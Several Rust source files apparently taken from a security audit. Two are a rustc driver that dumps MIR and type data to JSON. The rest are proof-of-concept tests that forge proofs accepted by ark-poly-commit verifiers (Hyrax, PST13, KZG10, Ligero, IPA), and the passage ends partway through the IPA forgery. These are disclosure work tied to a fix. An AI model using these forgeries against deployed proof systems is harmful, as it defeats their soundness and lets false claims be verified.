                t.push(("op", self.operand(discr)));
                t.push(("op_ty", J::s(ty_str(discr.ty(self.body, self.tcx)))));
                let mut ts = Vec::new();
                for (val, bb) in targets.iter() {
                    ts.push(J::Arr(vec![J::Int(val as i128), J::Int(bb.as_usize() as i128)]));
                }
                t.push(("targets", J::Arr(ts)));
                t.push(("otherwise", J::Int(targets.otherwise().as_usize() as i128)));
            }
            TerminatorKind::UnwindResume => t.push(("k", J::s("resume"))),
            TerminatorKind::UnwindTerminate(_) => t.push(("k", J::s("terminate"))),
            TerminatorKind::Return => t.push(("k", J::s("return"))),
            TerminatorKind::Unreachable => t.push(("k", J::s("unreachable"))),
            TerminatorKind::Drop { place, target, unwind, .. } => {
                t.push(("k", J::s("drop")));
                t.push(("pl", self.place(place)));
                t.push(("t", J::Int(target.as_usize() as i128)));
                t.push(("unwind", self.unwind(unwind)));
            }
            TerminatorKind::Call { func, args, destination, target, unwind, fn_span, .. } => {
                t.push(("k", J::s("call")));
                t.extend(self.callee(func));
                if let Operand::Copy(p) | Operand::Move(p) = func {
                    t.push(("func_pl", self.place(p)));
                }
                t.push(("args", J::Arr(args.iter().map(|a| self.operand(&a.node)).collect())));
                t.push((
                    "arg_tys",
                    J::Arr(
                        args.iter()
                            .map(|a| J::s(ty_str(a.node.ty(self.body, self.tcx))))
                            .collect(),
                    ),
                ));
                t.push(("dst", self.place(destination)));
                t.push((
                    "t",
                    match target {
                        Some(b) => J::Int(b.as_usize() as i128),
                        None => J::Null,
                    },
                ));
                t.push(("unwind", self.unwind(unwind)));
                t.push(("fn_span", J::s(span_str(self.tcx, *fn_span))));
            }
            TerminatorKind::Assert { cond, expected, target, unwind, msg } => {
                t.push(("k", J::s("assert")));
                t.push(("op", self.operand(cond)));
                t.push(("expected", J::Bool(*expected)));
                t.push(("t", J::Int(target.as_usize() as i128)));
                t.push(("unwind", self.unwind(unwind)));
                let m = format!("{:?}", msg);
                let m = m.split('(').next().unwrap_or("").to_string();
                t.push(("msg", J::s(m)));
            }
            TerminatorKind::FalseEdge { real_target, .. } => {
                t.push(("k", J::s("goto")));
                t.push(("t", J::Int(real_target.as_usize() as i128)));
            }
            TerminatorKind::FalseUnwind { real_target, .. } => {
                t.push(("k", J::s("goto")));
                t.push(("t", J::Int(real_target.as_usize() as i128)));
            }
            other => {
                t.push(("k", J::s("other")));
                t.push(("dbg", J::s(format!("{:?}", other))));
            }
        }
        t.push(("span", J::s(span_str(self.tcx, sp))));
        t.push(("exp", J::Bool(sp.from_expansion())));
        if sp.from_expansion() {
            // name of the outermost macro this terminator comes from, and the call-site span
            let ed = sp.ctxt().outer_expn_data();
            t.push(("macro", J::s(format!("{:?}", ed.kind))));
            let cs = sp.source_callsite();
            t.push(("callsite", J::s(span_str(self.tcx, cs))));
        }
        J::Obj(vec![
            ("stmts", J::Arr(stmts)),
            ("term", J::Obj(t)),
            ("cleanup", J::Bool(bb.is_cleanup)),
        ])
    }

    fn line(&self, sp: Span) -> i128 {
        let sm = self.tcx.sess.source_map();
        let sp = if sp.from_expansion() { sp.source_callsite() } else { sp };
        sm.lookup_char_pos(sp.lo()).line as i128
    }
}

fn rng_trait(tcx: TyCtxt<'_>) -> Option<DefId> {
    tcx.all_traits_including_private().find(|d| { let p = path_of(tcx, *d); p == "rand_core::RngCore" || p == "rand::RngCore" })
}

/// does the type (references, Option<..> peeled) implement rand_core::RngCore?
fn is_generator<'tcx>(tcx: TyCtxt<'tcx>, env: TypingEnv<'tcx>, tr: DefId, ty: Ty<'tcx>) -> bool {
    use rustc_infer::infer::TyCtxtInferExt;
    use rustc_trait_selection::infer::InferCtxtExt;
    let mut t = ty.peel_refs();
    for _ in 0..3 {
        if let ty::Adt(ad, args) = t.kind() {
            let p = path_of(tcx, ad.did());
            if p == "std::option::Option" || p == "core::option::Option" {
                if let Some(a) = args.types().next() {
                    t = a.peel_refs();
                    continue;
                }
            }
        }
        break;
    }
    if let ty::Dynamic(preds, ..) = t.kind() {
        return preds.principal_def_id() == Some(tr);
    }
    if t.has_escaping_bound_vars() {
        return false;
    }
    let (infcx, param_env) = tcx.infer_ctxt().build_with_typing_env(env);
    infcx.type_implements_trait(tr, [t], param_env).must_apply_modulo_regions()
}

pub fn dump_body<'tcx>(tcx: TyCtxt<'tcx>, ldid: LocalDefId) -> J {
    let did = ldid.to_def_id();
    let rngtr = rng_trait(tcx);
    let body: &Body<'tcx> = tcx.optimized_mir(did);
    let env = TypingEnv::post_analysis(tcx, did);
    let cx = Cx { tcx, body, env };
    let mut v = ident_fields(tcx, did);
    v.push(("arg_count", J::Int(body.arg_count as i128)));
    v.push(("spread_arg", match body.spread_arg {
        Some(l) => J::Int(l.as_usize() as i128),
        None => J::Null,
    }));
    // user variable names
    let mut names: Vec<Option<String>> = vec![None; body.local_decls.len()];
    let mut upvar_names: Vec<J> = Vec::new();
    for vdi in &body.var_debug_info {
        if let rustc_middle::mir::VarDebugInfoContents::Place(p) = &vdi.value {
            if p.projection.is_empty() {
                names[p.local.as_usize()] = Some(vdi.name.to_string());
            } else if p.local.as_usize() == 1 {
                // closure upvar: (*_1).i or _1.i
                for e in p.projection.iter() {
                    if let PlaceElem::Field(f, _) = e {
                        upvar_names.push(J::Arr(vec![
                            J::Int(f.as_usize() as i128),
                            J::s(vdi.name.to_string()),
                        ]));
                        break;
                    }
                }
            }
        }
    }
    v.push(("upvar_names", J::Arr(upvar_names)));
    let mut locals = Vec::new();
    for (l, decl) in body.local_decls.iter_enumerated() {
        let ty = decl.ty;
        let mut lv = vec![("ty", J::s(ty_str(ty)))];
        lv.push(("copy", J::Bool(tcx.type_is_copy_modulo_regions(env, ty))));
        lv.push(("mutb", J::Bool(may_hold_mut(tcx, env, ty, 0))));
        if let Some(n) = &names[l.as_usize()] {
            lv.push(("name", J::s(n.clone())));
        }
        if let Some(ad) = adt_of(ty) {
            lv.push(("adt", J::s(path_of(tcx, ad))));
        }
        if let ty::Closure(cd, _) = ty.peel_refs().kind() {
            lv.push(("closure", J::s(path_of(tcx, *cd))));
        }
        if let Some(tr) = rngtr {
            if is_generator(tcx, env, tr, ty) {
                lv.push(("rng", J::Bool(true)));
            }
        }
        let peeled = ty.peel_refs();
        match peeled.kind() {
            ty::Param(_) => {
                let mut bs = Vec::new();
                for cl in env.param_env.caller_bounds().iter() {
                    if let Some(tp) = cl.as_trait_clause() {
                        let tp = tp.skip_binder();
                        if tp.self_ty() == peeled {
                            bs.push(J::s(path_of(tcx, tp.def_id())));
                        }
                    }
                }
                lv.push(("bounds", J::Arr(bs)));
            }
            ty::Dynamic(preds, ..) => {
                let mut bs = Vec::new();
                if let Some(p) = preds.principal_def_id() {
                    bs.push(J::s(path_of(tcx, p)));
                }
                lv.push(("bounds", J::Arr(bs)));
            }
            _ => {}
        }
        locals.push(J::Obj(lv));
    }
    v.push(("locals", J::Arr(locals)));
    v.push(("blocks", J::Arr(body.basic_blocks.iter().map(|b| cx.block(b)).collect())));
    J::Obj(v)
}
