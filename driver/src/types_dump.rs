//! ADT shapes, impl tables, local traits.
use crate::json::J;
use crate::mir_dump::{path_of, span_str, ty_str};
use rustc_hir::def::DefKind;
use rustc_middle::ty::{self, Ty, TyCtxt};

pub fn shape<'tcx>(tcx: TyCtxt<'tcx>, t: Ty<'tcx>, depth: u32) -> J {
    if depth > 8 {
        return J::Obj(vec![("k", J::s("deep")), ("s", J::s(ty_str(t)))]);
    }
    match t.kind() {
        ty::Adt(ad, args) => J::Obj(vec![
            ("k", J::s("adt")),
            ("path", J::s(path_of(tcx, ad.did()))),
            ("local", J::Bool(ad.did().is_local())),
            ("args", J::Arr(args.types().map(|a| shape(tcx, a, depth + 1)).collect())),
        ]),
        ty::Param(p) => J::Obj(vec![("k", J::s("param")), ("s", J::s(p.name.to_string()))]),
        ty::Alias(..) => J::Obj(vec![("k", J::s("alias")), ("s", J::s(ty_str(t)))]),
        ty::Ref(_, inner, m) => J::Obj(vec![
            ("k", J::s(if m.is_mut() { "refmut" } else { "ref" })),
            ("args", J::Arr(vec![shape(tcx, *inner, depth + 1)])),
        ]),
        ty::Slice(inner) => {
            J::Obj(vec![("k", J::s("slice")), ("args", J::Arr(vec![shape(tcx, *inner, depth + 1)]))])
        }
        ty::Array(inner, _) => {
            J::Obj(vec![("k", J::s("array")), ("args", J::Arr(vec![shape(tcx, *inner, depth + 1)]))])
        }
        ty::Tuple(ts) => J::Obj(vec![
            ("k", J::s("tuple")),
            ("args", J::Arr(ts.iter().map(|a| shape(tcx, a, depth + 1)).collect())),
        ]),
        ty::Dynamic(..) => J::Obj(vec![("k", J::s("dyn")), ("s", J::s(ty_str(t)))]),
        ty::RawPtr(..) => J::Obj(vec![("k", J::s("rawptr")), ("s", J::s(ty_str(t)))]),
        _ => J::Obj(vec![("k", J::s("prim")), ("s", J::s(ty_str(t)))]),
    }
}

pub fn dump<'tcx>(tcx: TyCtxt<'tcx>) -> (Vec<J>, Vec<J>, Vec<J>) {
    let mut adts = Vec::new();
    let mut impls = Vec::new();
    let mut traits = Vec::new();
    let mut statics = Vec::new();
    for id in tcx.hir_free_items() {
        let ldid = id.owner_id.def_id;
        let did = ldid.to_def_id();
        match tcx.def_kind(did) {
            DefKind::Struct | DefKind::Enum | DefKind::Union => {
                let ad = tcx.adt_def(did);
                let mut variants = Vec::new();
                for v in ad.variants() {
                    let mut fields = Vec::new();
                    for f in v.fields.iter() {
                        let fty = tcx.type_of(f.did).skip_binder();
                        fields.push(J::Obj(vec![
                            ("name", J::s(f.name.to_string())),
                            ("ty", J::s(ty_str(fty))),
                            ("vis", J::s(format!("{:?}", f.vis))),
                            ("shape", shape(tcx, fty, 0)),
                        ]));
                    }
                    variants.push(J::Obj(vec![
                        ("name", J::s(v.name.to_string())),
                        ("fields", J::Arr(fields)),
                    ]));
                }
                let generics = tcx.generics_of(did);
                let gnames: Vec<J> =
                    generics.own_params.iter().map(|p| J::s(p.name.to_string())).collect();
                adts.push(J::Obj(vec![
                    ("path", J::s(path_of(tcx, did))),
                    ("kind", J::s(format!("{:?}", tcx.def_kind(did)))),
                    ("generics", J::Arr(gnames)),
                    ("variants", J::Arr(variants)),
                    ("span", J::s(span_str(tcx, tcx.def_span(did)))),
                    ("vis", J::s(format!("{:?}", tcx.visibility(did)))),
                ]));
            }
            DefKind::Impl { .. } => {
                let sty = tcx.type_of(did).skip_binder();
                let mut v = vec![
                    ("id", J::s(path_of(tcx, did))),
                    ("self_ty", J::s(ty_str(sty))),
                    ("self_shape", shape(tcx, sty, 0)),
                ];
                if let ty::Adt(ad, _) = sty.kind() {
                    v.push(("self_adt", J::s(path_of(tcx, ad.did()))));
                }
                if let Some(tr) = tcx.impl_opt_trait_ref(did) {
                    let tr = tr.skip_binder();
                    v.push(("trait", J::s(path_of(tcx, tr.def_id))));
                    v.push(("trait_ref", J::s(ty_str_tr(tr))));
                }
                let sp = tcx.def_span(did);
                v.push(("span", J::s(span_str(tcx, sp))));
                v.push(("exp", J::Bool(sp.from_expansion())));
                if sp.from_expansion() {
                    v.push(("macro", J::s(format!("{:?}", sp.ctxt().outer_expn_data().kind))));
                }
                let mut items = Vec::new();
                for &it in tcx.associated_item_def_ids(did) {
                    items.push(J::Obj(vec![
                        ("name", J::s(tcx.item_name(it).to_string())),
                        ("def", J::s(path_of(tcx, it))),
                        ("kind", J::s(format!("{:?}", tcx.def_kind(it)))),
                    ]));
                }
                v.push(("items", J::Arr(items)));
                impls.push(J::Obj(v));
            }
            DefKind::Trait => {
                let mut items = Vec::new();
                for &it in tcx.associated_item_def_ids(did) {
                    let ai = tcx.associated_item(it);
                    items.push(J::Obj(vec![
                        ("name", J::s(tcx.item_name(it).to_string())),
                        ("def", J::s(path_of(tcx, it))),
                        ("kind", J::s(format!("{:?}", tcx.def_kind(it)))),
                        ("has_default", J::Bool(ai.defaultness(tcx).has_value())),
                    ]));
                }
                traits.push(J::Obj(vec![
                    ("path", J::s(path_of(tcx, did))),
                    ("items", J::Arr(items)),
                ]));
            }
            DefKind::Static { mutability, .. } => {
                statics.push(J::Obj(vec![
                    ("path", J::s(path_of(tcx, did))),
                    ("kind", J::s("Static")),
                    ("mutable", J::Bool(mutability.is_mut())),
                    ("ty", J::s(ty_str(tcx.type_of(did).skip_binder()))),
                    ("generics", J::Arr(vec![])),
                    ("variants", J::Arr(vec![])),
                ]));
            }
            _ => {}
        }
    }
    adts.extend(statics);
    (adts, impls, traits)
}

fn ty_str_tr(tr: ty::TraitRef<'_>) -> String {
    rustc_middle::ty::print::with_no_trimmed_paths!(format!("{}", tr))
}
