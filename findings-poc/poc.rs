#![allow(unused_qualifications)]
#![allow(non_camel_case_types, unused_imports)]
use crate::*;
use crate::utils::test_sponge;
use ark_std::{test_rng, UniformRand};
use rand_chacha::{rand_core::SeedableRng, ChaCha20Rng};
use ark_poly::{DenseMultilinearExtension, MultilinearExtension, DenseUVPolynomial, univariate::DensePolynomial};

mod hyrax_poc {
    use super::*;
    use crate::hyrax::HyraxPC;
    use ark_ed_on_bls12_381::EdwardsAffine;
    use ark_ec::AffineRepr;
    type Fr = <EdwardsAffine as AffineRepr>::ScalarField;
    type H = HyraxPC<EdwardsAffine, DenseMultilinearExtension<Fr>>;

    fn setup() -> (ChaCha20Rng, <H as PolynomialCommitment<Fr, DenseMultilinearExtension<Fr>>>::CommitterKey) {
        let mut rng = ChaCha20Rng::from_rng(test_rng()).unwrap();
        let pp = H::setup(1, Some(4), &mut rng).unwrap();
        let (ck, _vk) = H::trim(&pp, 1, 1, None).unwrap();
        (rng, ck)
    }

    #[test]
    fn f1_wrong_value_accepted() {
        let (mut rng, ck) = setup();
        let p = LabeledPolynomial::new("p".into(), DenseMultilinearExtension::rand(4, &mut rng), None, None);
        let (c, st) = H::commit(&ck, &[p.clone()], Some(&mut rng)).unwrap();
        let z: Vec<Fr> = (0..4).map(|_| Fr::rand(&mut rng)).collect();
        let v = p.evaluate(&z);
        let proof = H::open(&ck, &[p.clone()], &c, &z, &mut test_sponge::<Fr>(), &st, Some(&mut rng)).unwrap();
        let ok = H::check(&ck, &c, &z, [v + Fr::from(1u64)], &proof, &mut test_sponge::<Fr>(), Some(&mut rng)).unwrap();
        println!("F1 hyrax wrong value accepted = {}", ok);
        assert!(ok);
    }

    #[test]
    fn f4_empty_proof_accepted() {
        let (mut rng, ck) = setup();
        let p = LabeledPolynomial::new("p".into(), DenseMultilinearExtension::rand(4, &mut rng), None, None);
        let (c, _st) = H::commit(&ck, &[p.clone()], Some(&mut rng)).unwrap();
        let z: Vec<Fr> = (0..4).map(|_| Fr::rand(&mut rng)).collect();
        let mut qs = QuerySet::new();
        qs.insert(("p".to_string(), ("z".to_string(), z.clone())));
        let mut ev = Evaluations::new();
        ev.insert(("p".to_string(), z.clone()), Fr::from(12345u64));
        let proof: Vec<Vec<hyrax::HyraxProof<EdwardsAffine>>> = vec![vec![]];
        let ok = H::batch_check(&ck, &c, &qs, &ev, &proof, &mut test_sponge::<Fr>(), &mut rng).unwrap();
        println!("F4 hyrax empty inner proof accepted = {}", ok);
        assert!(ok);
    }

    #[test]
    fn f7_shared_point_value_rejects_honest() {
        let (mut rng, ck) = setup();
        let p1 = LabeledPolynomial::new("p1".into(), DenseMultilinearExtension::rand(4, &mut rng), None, None);
        let p2 = LabeledPolynomial::new("p2".into(), DenseMultilinearExtension::rand(4, &mut rng), None, None);
        let polys = vec![p1.clone(), p2.clone()];
        let (c, st) = H::commit(&ck, &polys, Some(&mut rng)).unwrap();
        let z: Vec<Fr> = (0..4).map(|_| Fr::rand(&mut rng)).collect();
        let lc = LinearCombination::new("lc", vec![(Fr::from(2u64), "p1"), (Fr::from(3u64), "p2")]);
        let lcs = vec![lc];
        for labels in [vec!["a"], vec!["a", "b"]] {
            let mut qs = QuerySet::new();
            for l in &labels { qs.insert(("lc".to_string(), (l.to_string(), z.clone()))); }
            let mut ev = Evaluations::new();
            ev.insert(("lc".to_string(), z.clone()), Fr::from(2u64) * p1.evaluate(&z) + Fr::from(3u64) * p2.evaluate(&z));
            let proof = H::open_combinations(&ck, &lcs, &polys, &c, &qs, &mut test_sponge::<Fr>(), &st, Some(&mut rng)).unwrap();
            let res = H::check_combinations(&ck, &lcs, &c, &qs, &ev, &proof, &mut test_sponge::<Fr>(), &mut rng);
            println!("F7 labels={:?} honest LC proof result = {:?}", labels, res.as_ref().map_err(|e| format!("{}", e)));
        }
    }
}

mod pst_poc {
    use super::*;
    use crate::marlin_pst13_pc::MarlinPST13;
    use ark_bls12_381::Bls12_381;
    use ark_ec::pairing::Pairing;
    use ark_poly::{multivariate::{SparsePolynomial as SparsePoly, SparseTerm}, DenseMVPolynomial};
    type F = <Bls12_381 as Pairing>::ScalarField;
    type P = SparsePoly<F, SparseTerm>;
    type PC = MarlinPST13<Bls12_381, P>;
    #[test]
    fn f5_empty_batch_proof_accepted() {
        let mut rng = ChaCha20Rng::from_rng(test_rng()).unwrap();
        let pp = PC::setup(3, Some(2), &mut rng).unwrap();
        let (ck, vk) = PC::trim(&pp, 3, 0, None).unwrap();
        let p = LabeledPolynomial::new("p".into(), P::rand(3, 2, &mut rng), None, None);
        let (c, _st) = PC::commit(&ck, &[p.clone()], Some(&mut rng)).unwrap();
        let z: Vec<F> = (0..2).map(|_| F::rand(&mut rng)).collect();
        let mut qs = QuerySet::new();
        qs.insert(("p".to_string(), ("z".to_string(), z.clone())));
        let mut ev = Evaluations::new();
        ev.insert(("p".to_string(), z.clone()), p.evaluate(&z) + F::from(1u64));
        let proof = Vec::new();
        let ok = PC::batch_check(&vk, &c, &qs, &ev, &proof, &mut test_sponge::<F>(), &mut rng).unwrap();
        println!("F5 pst13 empty batch proof, wrong value accepted = {}", ok);
        assert!(ok);
    }
}

mod kzg_poc {
    use super::*;
    use crate::kzg10::*;
    use ark_bls12_381::Bls12_381;
    use ark_ec::pairing::Pairing;
    type F = <Bls12_381 as Pairing>::ScalarField;
    type P = DensePolynomial<F>;
    type K = KZG10<Bls12_381, P>;
    #[test]
    fn f6_truncated_proofs_accepted() {
        let mut rng = ChaCha20Rng::from_rng(test_rng()).unwrap();
        let pp = K::setup(8, false, &mut rng).unwrap();
        let (ck, vk) = K::trim(&pp, 8).unwrap();
        let p1 = P::rand(5, &mut rng);
        let p2 = P::rand(5, &mut rng);
        let (c1, r1) = K::commit(&ck, &p1, None, None).unwrap();
        let (c2, _r2) = K::commit(&ck, &p2, None, None).unwrap();
        let z = F::rand(&mut rng);
        let pi1 = K::open(&ck, &p1, z, &r1).unwrap();
        let ok = K::batch_check(&vk, &[c1, c2], &[z, z], &[p1.evaluate(&z), p2.evaluate(&z) + F::from(7u64)], &[pi1], &mut rng).unwrap();
        println!("F6 kzg10 batch_check with missing proof and wrong 2nd value accepted = {}", ok);
        assert!(ok);
    }
}

mod ligero_poc {
    use super::*;
    use crate::linear_codes::{LigeroPCParams, LinearCodePCS, UnivariateLigero};
    use ark_bls12_377::Fr;
    use ark_crypto_primitives::{crh::{sha256::Sha256, CRHScheme, TwoToOneCRHScheme}, merkle_tree::{ByteDigestConverter, Config}};
    use blake2::Blake2s256;
    use ark_pcs_bench_templates::{FieldToBytesColHasher, LeafIdentityHasher};
    type LeafH = LeafIdentityHasher;
    type CompressH = Sha256;
    type ColHasher<F, D> = FieldToBytesColHasher<F, D>;
    struct MerkleTreeParams;
    impl Config for MerkleTreeParams {
        type Leaf = Vec<u8>;
        type LeafDigest = <LeafH as CRHScheme>::Output;
        type LeafInnerDigestConverter = ByteDigestConverter<Self::LeafDigest>;
        type InnerDigest = <CompressH as TwoToOneCRHScheme>::Output;
        type LeafHash = LeafH;
        type TwoToOneHash = CompressH;
    }
    type MTConfig = MerkleTreeParams;
    type L = LinearCodePCS<UnivariateLigero<Fr, MTConfig, DensePolynomial<Fr>, ColHasher<Fr, Blake2s256>>, Fr, DensePolynomial<Fr>, MTConfig, ColHasher<Fr, Blake2s256>>;

    #[test]
    fn f2_proof_for_other_polynomial_accepted() {
        let mut rng = ChaCha20Rng::from_rng(test_rng()).unwrap();
        let pp = L::setup(64, None, &mut rng).unwrap();
        let (ck, vk) = L::trim(&pp, 0, 0, None).unwrap();
        let p = LabeledPolynomial::new("x".into(), DensePolynomial::<Fr>::rand(63, &mut rng), None, None);
        let q = LabeledPolynomial::new("x".into(), DensePolynomial::<Fr>::rand(63, &mut rng), None, None);
        let (cp, sp) = L::commit(&ck, &[p.clone()], None).unwrap();
        let (cq, _sq) = L::commit(&ck, &[q.clone()], None).unwrap();
        let z = Fr::rand(&mut rng);
        // prover: commitment of q (root absorbed), but matrices / tree of p
        let proof = L::open(&ck, &[p.clone()], &cq, &z, &mut test_sponge::<Fr>(), &sp, None).unwrap();
        let res = L::check(&vk, &cq, &z, [p.evaluate(&z)], &proof, &mut test_sponge::<Fr>(), None);
        println!("F2 ligero: p(z) accepted against commitment of q (p(z)!=q(z): {}) = {:?}", p.evaluate(&z) != q.evaluate(&z), res.as_ref().map_err(|e| format!("{}", e)));
        let honest = L::open(&ck, &[p.clone()], &cp, &z, &mut test_sponge::<Fr>(), &sp, None).unwrap();
        let res2 = L::check(&vk, &cp, &z, [p.evaluate(&z)], &honest, &mut test_sponge::<Fr>(), None);
        println!("   honest = {:?}", res2.as_ref().map_err(|e| format!("{}", e)));
        assert!(res.unwrap());
    }
}
