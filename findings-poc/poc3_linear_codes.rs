#[cfg(test)]
mod poc3 {
    #![allow(unused_qualifications, unused_imports)]
    use super::*;
    use crate::utils::test_sponge;
    use ark_bls12_377::Fr;
    use ark_crypto_primitives::{crh::{sha256::Sha256, CRHScheme, TwoToOneCRHScheme}, merkle_tree::{ByteDigestConverter, Config}};
    use ark_poly::{univariate::DensePolynomial, DenseUVPolynomial};
    use ark_std::{test_rng, UniformRand};
    use blake2::Blake2s256;
    use rand_chacha::{rand_core::SeedableRng, ChaCha20Rng};
    use ark_pcs_bench_templates::{FieldToBytesColHasher, LeafIdentityHasher};
    type LeafH = LeafIdentityHasher;
    type CompressH = Sha256;
    type ColHasher<F, D> = FieldToBytesColHasher<F, D>;
    struct MerkleTreeParams;
    impl Config for MerkleTreeParams {
        type Leaf = Vec<u8>;
        type LeafDigest = <LeafH as CRHScheme>::Output;
        type LeafInnerDigestConverter = ByteDigestConverter<Self::LeafDigest>;
        type InnerDigest = <CompressH as TwoToOneCRHScheme>::Output;
        type LeafHash = LeafH;
        type TwoToOneHash = CompressH;
    }
    type MT = MerkleTreeParams;
    type Enc = UnivariateLigero<Fr, MT, DensePolynomial<Fr>, ColHasher<Fr, Blake2s256>>;
    type L = LinearCodePCS<Enc, Fr, DensePolynomial<Fr>, MT, ColHasher<Fr, Blake2s256>>;

    fn stretch(v: &[Fr], k: usize) -> Vec<Fr> {
        let mut out = vec![Fr::from(0u64); v.len() * k];
        for (i, x) in v.iter().enumerate() { out[i * k] = *x; }
        out
    }

    #[test]
    fn f3_stretched_vector_proves_false_value() {
        let mut rng = ChaCha20Rng::from_rng(test_rng()).unwrap();
        let pp = L::setup(255, None, &mut rng).unwrap();
        let (ck, vk) = L::trim(&pp, 0, 0, None).unwrap();
        let p = LabeledPolynomial::new("x".into(), DensePolynomial::<Fr>::rand(255, &mut rng), None, None);
        let (c, st) = L::commit(&ck, &[p.clone()], None).unwrap();
        let z = Fr::rand(&mut rng);
        let commitment = c[0].commitment();
        let (n_rows, n_cols) = (commitment.metadata.n_rows, commitment.metadata.n_cols);
        let state = &st[0];
        let mut col_hashes: Vec<Vec<u8>> = state.leaves.clone().into_iter().map(|h| h.into()).collect();
        let col_tree = create_merkle_tree::<MT>(&mut col_hashes, ck.leaf_hash_param(), ck.two_to_one_hash_param()).unwrap();
        let k = 4usize; // rho_inv
        let mut sponge = test_sponge::<Fr>();
        sponge.absorb(&to_bytes!(&commitment.root).unwrap());
        let r = sponge.squeeze_field_elements::<Fr>(n_rows);
        let wf = stretch(&state.mat.row_mul(&r), k);
        sponge.absorb(&wf);
        sponge.absorb(&vec![z]);
        let (a, b) = <Enc as LinearEncode<Fr, MT, DensePolynomial<Fr>, ColHasher<Fr, Blake2s256>>>::tensor(&z, n_cols, n_rows);
        let v = stretch(&state.mat.row_mul(&b), k);
        sponge.absorb(&v);
        let t = calculate_t::<Fr>(ck.sec_param(), ck.distance(), state.ext_mat.m).unwrap();
        let indices = get_indices_from_sponge(state.ext_mat.m, t, &mut sponge).unwrap();
        let cols = state.ext_mat.cols();
        let mut columns = vec![]; let mut paths = vec![];
        for i in indices { columns.push(cols[i].clone()); paths.push(col_tree.generate_proof(i).unwrap()); }
        let forged_value = crate::utils::inner_product(&v, &a);
        let true_value = p.evaluate(&z);
        let proof = vec![LinCodePCProof { opening: LinCodePCProofSingle { paths, v, columns }, well_formedness: Some(wf) }];
        let res = L::check(&vk, &c, &z, [forged_value], &proof, &mut test_sponge::<Fr>(), None);
        println!("F3 n_rows={} n_cols={} forged!=true: {} check(forged) = {:?}", n_rows, n_cols, forged_value != true_value, res.as_ref().map_err(|e| format!("{}", e)));
        assert!(forged_value != true_value);
        assert!(res.unwrap());
    }
}
