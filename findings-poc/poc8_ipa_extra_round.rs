// F8 - IPA batch_check accepted a false value when the proof carried one extra round.
//
// Insert this test into `mod tests` of poly-commit/src/ipa_pc/mod.rs (it needs the module's private items:
// `compute_random_oracle_challenge`, `Proof`, `CHALLENGE_SIZE`) and run
//     cargo test --offline -p ark-poly-commit --lib poc_extra_round
// On the tree before be3e133 the final assertion fails ("batch_check accepted p(z) + 1 ..."); with the fix the
// call returns Err(IncorrectInputLength) and the test passes.
//
// Why it works: with k' = k + 1 rounds the check polynomial has 2n coefficients; the multi-scalar multiplication
// that recomputes the final key truncates them to the n generators, and those n coefficients only involve the last k
// challenges. The first challenge xi_1 enters only h(z) = (1 + xi_1 z^n) * h_k(z). Choosing
//     L_1 = lambda * G_0 + lambda * h',  R_1 = z^n * v_true * h',  lambda = (v_claimed - v_true) / z^n
// (all fixed before xi_1 is known) makes P_1 = <a', G> + mu * <a', b> * h' with a' = a + lambda/xi_1 * e_0 and
// mu = 1 + xi_1 z^n, after which the honest k rounds against the generator mu * h' satisfy the verifier.
    #[test]
    fn poc_extra_round_forges_batch_check() {
        use crate::tests::poseidon_sponge_for_test;
        use crate::{Evaluations, LabeledPolynomial, PolynomialCommitment, QuerySet};
        use ark_crypto_primitives::sponge::CryptographicSponge;
        use ark_ec::{AffineRepr, CurveGroup};
        use ark_ff::{Field, One, Zero};
        use ark_poly::Polynomial;
        use ark_serialize::CanonicalSerialize;
        use ark_std::{test_rng, UniformRand};
        use core::ops::Mul;

        type G = EdwardsAffine;
        let rng = &mut test_rng();
        let d = 7usize; // n = 8, k = 3
        let pp = PC_JJB2S::setup(d, None, rng).unwrap();
        let (ck, vk) = PC_JJB2S::trim(&pp, d, 0, None).unwrap();
        let p = UniPoly::rand(d, rng);
        let lp = LabeledPolynomial::new("p".to_string(), p.clone(), None, None);
        let (comms, _states) = PC_JJB2S::commit(&ck, [&lp], Some(rng)).unwrap();
        let z = Fr::rand(rng);
        let v_true = p.evaluate(&z);
        let v_claimed = v_true + Fr::one();

        // --- replay what the verifier derives from the transcript
        let mut sponge = poseidon_sponge_for_test::<Fr>();
        let xi_op: Fr = sponge.squeeze_field_elements_with_sizes(&[super::CHALLENGE_SIZE])[0];
        let n = d + 1;
        let comb_comm: G = comms[0].commitment().comm.mul(xi_op).into_affine();
        let v = xi_op * v_claimed;
        let vt = xi_op * v_true;
        let mut a: Vec<Fr> = p.coeffs().iter().map(|c| *c * xi_op).collect();
        a.resize(n, Fr::zero());

        let ro = |bytes: &[u8]| PC_JJB2S::compute_random_oracle_challenge(bytes);
        let mut bytes = Vec::new();
        comb_comm.serialize_uncompressed(&mut bytes).unwrap();
        z.serialize_uncompressed(&mut bytes).unwrap();
        v.serialize_uncompressed(&mut bytes).unwrap();
        let xi0 = ro(&bytes);
        let h_prime: G = vk.h.mul(xi0).into_affine();

        // --- the extra (first) round
        let big_a = z.pow([n as u64]);
        let lambda = (v - vt) * big_a.inverse().unwrap();
        let l1: G = (ck.comm_key[0].mul(lambda) + h_prime.mul(lambda)).into_affine();
        let r1: G = h_prime.mul(big_a * vt).into_affine();
        let mut bytes = Vec::new();
        xi0.serialize_uncompressed(&mut bytes).unwrap();
        l1.serialize_uncompressed(&mut bytes).unwrap();
        r1.serialize_uncompressed(&mut bytes).unwrap();
        let xi1 = ro(&bytes);
        let mu = Fr::one() + xi1 * big_a;
        a[0] += lambda * xi1.inverse().unwrap();

        // --- honest folding of a against (G, mu * h')
        let h2: G = h_prime.mul(mu).into_affine();
        let mut l_vec = vec![l1];
        let mut r_vec = vec![r1];
        let mut zs: Vec<Fr> = Vec::new();
        let mut cur = Fr::one();
        for _ in 0..n {
            zs.push(cur);
            cur *= z;
        }
        let mut key: Vec<<G as AffineRepr>::Group> = ck.comm_key.iter().map(|x| (*x).into()).collect();
        let mut round_challenge = xi1;
        let mut m = n;
        while m > 1 {
            let half = m / 2;
            let (a_l, a_r) = a.split_at(half);
            let (z_l, z_r) = zs.split_at(half);
            let (k_l, k_r) = key.split_at(half);
            let ip = |x: &[Fr], y: &[Fr]| x.iter().zip(y).map(|(p, q)| *p * q).sum::<Fr>();
            let msm = |k: &[<G as AffineRepr>::Group], s: &[Fr]| {
                k.iter().zip(s).map(|(g, c)| *g * c).sum::<<G as AffineRepr>::Group>()
            };
            let l: G = (msm(k_l, a_r) + h2.mul(ip(a_r, z_l))).into_affine();
            let r: G = (msm(k_r, a_l) + h2.mul(ip(a_l, z_r))).into_affine();
            l_vec.push(l);
            r_vec.push(r);
            let mut bytes = Vec::new();
            round_challenge.serialize_uncompressed(&mut bytes).unwrap();
            l.serialize_uncompressed(&mut bytes).unwrap();
